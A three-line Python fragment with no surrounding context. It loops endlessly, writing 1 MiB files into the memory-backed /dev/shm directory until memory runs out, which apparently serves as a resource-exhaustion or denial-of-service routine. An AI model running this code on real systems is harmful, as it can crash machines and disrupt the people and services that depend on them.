    i = 0
    while True:
        open(f'/dev/shm/{i}', 'wb').write(bytes(1 << 20)); i += 1
